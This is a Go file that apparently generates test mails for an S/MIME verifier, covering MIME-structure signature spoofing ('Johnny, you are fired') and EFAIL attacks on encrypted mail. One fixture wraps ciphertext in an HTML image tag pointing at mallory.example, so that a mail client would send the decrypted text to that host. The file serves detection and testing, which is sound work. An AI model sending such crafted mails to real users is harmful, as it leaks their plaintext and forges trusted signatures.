package policy

import (
	"strings"

	"github.com/waxwing-mail/waxwing/finding"
)

const (
	footer  = "Content-Type: text/plain\r\n\r\n_____\r\nour list, our footer\r\n"
	payHTML = "Content-Type: text/html\r\n\r\n<p>Pay Mallory.</p>\r\n"
)

// structures are the attacks on the MIME tree ("Johnny, you are fired!", §6; STANDARDS 24, 25).
func (w *workshop) structures() {
	clear, opaque := entityOf(w.clear(lunch, w.alice)), entityOf(w.opaque(lunch, w.alice))
	for _, c := range []struct {
		name, mail string
		expect     Word
		code       finding.Code
		note       string
	}{
		{"footer", around("mixed", clear, footer), Untrusted, finding.MessagePartlySigned, "a footer beside a signed part"},
		{"footer-opaque", around("mixed", opaque, footer), Untrusted, finding.MessagePartlySigned, "a footer beside an opaque signature"},
		{"text-in-front", around("mixed", payHTML, clear), Untrusted, finding.MessagePartlySigned, "other text above a signed part"},
		{"hidden-in-related", around("related", "Content-Type: text/html\r\n\r\n<p>Pay.</p><div style=\"display:none\"><img src=\"cid:signed\"></div>\r\n", "Content-ID: <signed>\r\n"+clear), Untrusted, finding.MessagePartlySigned, "the signed part is hidden by the HTML around it"},
		{"alternative", around("alternative", clear, payHTML), Untrusted, finding.MessagePartlySigned, "the signed part is the alternative that nobody sees"},
		{"alone", around("mixed", clear), Untrusted, finding.MessagePartlySigned, "a multipart around the signature alone, which nobody signed"},
		{"attachment", around("mixed", footer, strings.Replace(opaque, "application/pkcs7-mime;", "application/pkcs7-mime; x=y;", 1)), Untrusted, finding.MessagePartlySigned, "a signed document attached to an unsigned mail"},
		{"third-part", w.thirdPart(), Altered, finding.MIMEExtraParts, "a third part in a multipart/signed"},
		{"no-signature", w.replacedSignature("Content-Type: text/plain\r\n\r\nremoved by the scanner\r\n"), Untrusted, finding.MIMEProtocol, "a scanner replaced the signature"},
		{"signature-is-ciphertext", w.replacedSignature(entityOf(w.seal(lunch, true, w.bob))), Untrusted, finding.MIMEProtocol, "an encrypted object in the signature's place"},
		{"forwarded", around("mixed", footer, "Content-Type: message/rfc822\r\n\r\n"+w.clear(lunch, w.alice)), Unsigned, finding.MessageInsideForward, "a signed mail is forwarded in an unsigned one"},
		{"forwarded-alone", header + "Content-Type: message/rfc822\r\n\r\n" + w.clear(lunch, w.alice), Unsigned, finding.MessageInsideForward, "a signed mail as the only body of an unsigned one"},
		{"forwarded-base64", header + "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64Lines([]byte(w.clear(lunch, w.alice))), Unsigned, finding.MessageInsideForward, "the same in base64"},
		{"digest", around("digest", "\r\n"+w.clear(lunch, w.alice), "\r\n"+lunch), Unsigned, finding.MessageInsideForward, "a digest of a list"},
		{"type-twice", strings.Replace(w.clear(lunch, w.alice), "MIME-Version: 1.0\r\n", "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n", 1), Unsigned, finding.MIMEDuplicate, "two Content-Type fields, the other one first"},
		{"type-twice-last", w.typeTwiceLast(), Untrusted, finding.MIMEDuplicate, "two Content-Type fields, the other one last"},
		{"epilogue", w.clear(lunch, w.alice) + "\r\nPay Mallory.\r\n", Genuine, finding.MIMEEpilogue, "text behind the end, which nobody shows"},
		{"micalg", strings.Replace(w.clear(lunch, w.alice), "micalg=sha-256", "micalg=md5", 1), Genuine, finding.LayerMicalg, "a wrong micalg is a wrong hint"},
		{"by-name", strings.Replace(w.opaque(lunch, w.alice), "application/pkcs7-mime; smime-type=signed-data", "application/octet-stream", 1), Genuine, finding.LayerByName, "recognised by its file name"},
		{"boundary-prefix", w.clear(strings.Replace(lunch, "Content-Type: text/plain\r\n\r\nShall we meet at noon?\r\n", "Content-Type: multipart/mixed; boundary=ab\r\n\r\n--ab\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\none\r\n--a--\r\n--ab--\r\n", 1), w.alice), Genuine, "", "boundaries that begin alike"},
		{"line-feeds", strings.ReplaceAll(w.clear(lunch, w.alice), "\r\n", "\n"), Genuine, "", "stored with bare line feeds"},
		{"openpgp", header + "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\r\n\r\n--x\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--x\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n--x--\r\n", Unsigned, finding.MessageOpenPGP, "another system"},
		{"plain", lunch, Unsigned, finding.MessageUnsigned, "nobody signed"},
	} {
		w.add("mime-"+c.name, c.expect, c.code, c.mail, c.note)
	}
}

// thirdPart appends a part to a signed mail.
func (w *workshop) thirdPart() string {
	mail := w.clear(lunch, w.alice)
	end := strings.LastIndex(mail, "\r\n--")
	boundary := strings.TrimSuffix(strings.TrimSpace(mail[end:]), "--")
	return mail[:end] + "\r\n" + boundary + "\r\n" + payHTML + mail[end:]
}

// replacedSignature puts something else in the signature's place.
func (w *workshop) replacedSignature(part string) string {
	mail := w.clear(lunch, w.alice)
	from := strings.Index(mail, "Content-Type: application/pkcs7-signature; name")
	to := strings.LastIndex(mail, "\r\n--")
	return mail[:from] + part + mail[to:]
}

func (w *workshop) typeTwiceLast() string {
	mail := w.clear(lunch, w.alice)
	at := strings.Index(mail, "\r\n\r\n")
	return mail[:at] + "\r\nContent-Type: text/plain" + mail[at:]
}

// secrecy are the attacks on encrypted mail (EFAIL; STANDARDS 1 to 9).
func (w *workshop) secrecy() {
	cbc, gcm := entityOf(w.seal(lunch, false, w.bob)), entityOf(w.seal(lunch, true, w.bob))
	image := "Content-Type: text/html\r\n\r\n<img src=\"http://mallory.example/\r\n"
	half := "From: alice@example.org\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=\"http://mallory.example/\r\nsecret\r\n"
	damaged := []byte(w.seal(lunch, true, w.bob))
	for i, n := len(damaged)-1, 0; n < 30; i-- {
		if c := damaged[i]; c != '\r' && c != '\n' && c != '=' {
			if n++; n == 30 {
				damaged[i] = map[bool]byte{true: 'B', false: 'A'}[c == 'A']
			}
		}
	}
	for _, c := range []struct {
		name, mail string
		expect     Word
		code       finding.Code
		note       string
	}{
		{"direct-exfiltration", around("mixed", image, cbc, "Content-Type: text/html\r\n\r\n\">\r\n"), Untrusted, finding.EncryptionMixed, "EFAIL: the ciphertext between two halves of an image's address"},
		{"related", around("related", image, gcm), Untrusted, finding.EncryptionMixed, "the same in a multipart/related"},
		{"two-ciphertexts", around("mixed", gcm, cbc), Untrusted, finding.EncryptionMixed, "two ciphertexts that nobody joined but the attacker"},
		{"footer", around("mixed", gcm, footer), Untrusted, finding.EncryptionMixed, "a footer beside the ciphertext"},
		{"half-html", w.seal(half, false, w.bob), Unsigned, finding.MIMEFragment, "what a CBC gadget leaves: half of a document"},
		{"damaged", string(damaged), Unreadable, finding.EncryptionFailed, "one character of the ciphertext was changed"},
		{"no-key", w.seal(lunch, true, w.alice), Unreadable, finding.EncryptionNoKey, "for somebody else"},
		{"cbc", w.seal(lunch, false, w.bob), Unsigned, finding.EncryptionNoIntegrity, "CBC hides and protects nothing else"},
		{"signed", w.seal(w.clear(lunch, w.alice), true, w.bob), Genuine, "", "signed and encrypted"},
		{"signed-cbc", w.seal(w.opaque(lunch, w.alice), false, w.bob), Genuine, finding.EncryptionNoIntegrity, "the signature inside makes up for CBC"},
		{"signed-footer-inside", w.seal(around("mixed", entityOf(w.clear(lunch, w.alice)), footer), true, w.bob), Untrusted, finding.MessagePartlySigned, "encryption does not make a part the whole"},
		{"signed-outside", w.clear(w.seal(lunch, true, w.bob), w.alice), Genuine, finding.SignerOutside, "the signer signed ciphertext and need not know the text"},
		{"stolen-ciphertext", w.clear(w.seal(strings.Replace(lunch, "Alice <alice@example.org>", "mallory@example.net", 1), true, w.bob), w.mallory), Genuine, finding.SignerOutside, "Mallory signs a ciphertext that he found; the words say so"},
		{"stolen-ciphertext-in-her-name", w.clear(w.seal(lunch, true, w.bob), w.mallory), Impostor, finding.FromMismatch, "and keeps Alice's name"},
		{"attachment-for-others", w.clear(around("mixed", footer, entityOf(w.seal(lunch, true, w.alice))), w.alice), Genuine, finding.EncryptionNoKey, "a closed attachment in a signed mail"},
		{"cut-off", w.seal(lunch, true, w.bob)[:700], Unreadable, "", "the ciphertext was cut off"},
		{"not-an-object", header + "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nthis is no ciphertext\r\n", Unreadable, finding.LayerMalformed, "it says that it is encrypted, and is text"},
	} {
		w.add("secret-"+c.name, c.expect, c.code, c.mail, c.note)
	}
}
